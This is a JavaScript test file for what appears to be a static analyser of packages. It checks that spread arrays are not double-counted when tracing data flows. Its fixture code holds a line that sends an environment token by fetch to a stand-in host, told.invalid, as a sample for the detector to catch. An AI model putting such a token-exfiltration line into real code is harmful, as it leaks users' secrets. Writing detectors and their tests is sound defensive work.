import assert from 'node:assert/strict';
import { analysePackage } from '../../../../../server/src/artifacts/analysis/analyse.js';
import { packageOf } from '../../../../support/artifacts.js';

describe('what a spread goes through', () => {
  it('is there once where either of two lists holds it, so that lists do not double', () => {
    const code = `let words = ['a', 'b'];
      for (let round = 0; round < 24; round++) { const next = []; next.push(...(process.env.COPY ? words.slice() : words)); words = next; }
      fetch('https://told.invalid/' + words.length, { body: process.env.A_TOKEN });`;
    const { flows, incomplete } = analysePackage(packageOf({ 'index.js': code }));
    assert.deepEqual([flows.map(({ address }) => address), incomplete], [['https://told.invalid/2'], []]);
  });
});
